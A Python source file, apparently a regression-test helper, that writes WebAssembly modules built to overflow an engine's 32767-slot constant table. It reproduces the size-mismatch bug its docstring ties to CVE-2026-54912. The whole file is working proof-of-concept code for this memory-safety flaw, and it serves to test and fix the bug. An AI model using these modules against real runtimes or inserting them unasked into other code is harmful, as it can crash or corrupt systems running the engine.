"""Writes modules whose one function has more constants than the engine's table for them holds (32767 slots)."""

import struct

I32, I64, F64 = 0x7F, 0x7E, 0x7C
I32_EQZ, DROP, END, BLOCK, LOCAL_GET = 0x45, 0x1A, 0x0B, 0x02, 0x20


def unsigned(value):
    out = bytearray()
    while True:
        value, low = value >> 7, value & 0x7F
        out.append(low | (0x80 if value else 0))
        if not value:
            return bytes(out)


def signed(value):
    out = bytearray()
    while True:
        low, value = value & 0x7F, value >> 7
        done = (value == 0 and not low & 0x40) or (value == -1 and low & 0x40)
        out.append(low if done else low | 0x80)
        if done:
            return bytes(out)


def section(number, content):
    return bytes([number]) + unsigned(len(content)) + content


def vector(items):
    return unsigned(len(items)) + b"".join(items)


CONSTANT = {
    I32: lambda n: b"\x41" + signed(n),
    I64: lambda n: b"\x42" + signed(n),
    F64: lambda n: b"\x44" + struct.pack("<d", float(n)),
}


def module(body, block_types=()):
    """A module whose _start has one i32 local and this body."""
    types = [b"\x60\x00\x00"] + [b"\x60\x00" + vector([bytes([t]) for t in results]) for results in block_types]
    code = vector([unsigned(1) + unsigned(1) + bytes([I32])])[1:] + body + bytes([END])
    name = b"_start"
    return (
        b"\0asm\1\0\0\0"
        + section(1, vector(types))
        + section(3, vector([unsigned(0)]))
        + section(5, b"\1\0\1")
        + section(7, vector([unsigned(6) + b"memory\x02\0", unsigned(len(name)) + name + b"\0\0"]))
        + section(10, vector([unsigned(len(code)) + code]))
    )


def distinct(kind, count):
    return b"".join(CONSTANT[kind](n + 1) + bytes([DROP]) for n in range(count))


def overflow(kind=I32, fill=None):
    """The module of CVE-2026-54912 for one kind of constant.

    33 500 distinct constants (16 800 of 64 bits) fill the table; then 8 000 blocks with four results: a constant from the start
    again, and three computed values. A first traverse that does not look the full table up emits the constant in its slot; the
    second finds it in the table and must copy all four results: more bytes than the first one measured.
    """
    fill = fill or (33500 if kind == I32 else 16800)
    computed = bytes([LOCAL_GET, 0, I32_EQZ]) * 3
    block = lambda n: bytes([BLOCK]) + signed(1) + CONSTANT[kind](n % 1000 + 1) + computed + bytes([END]) + bytes([DROP]) * 4
    body = distinct(kind, fill) + b"".join(block(n) for n in range(8000))
    return module(body, [(kind, I32, I32, I32)])


def many(count):
    return module(distinct(I32, count))
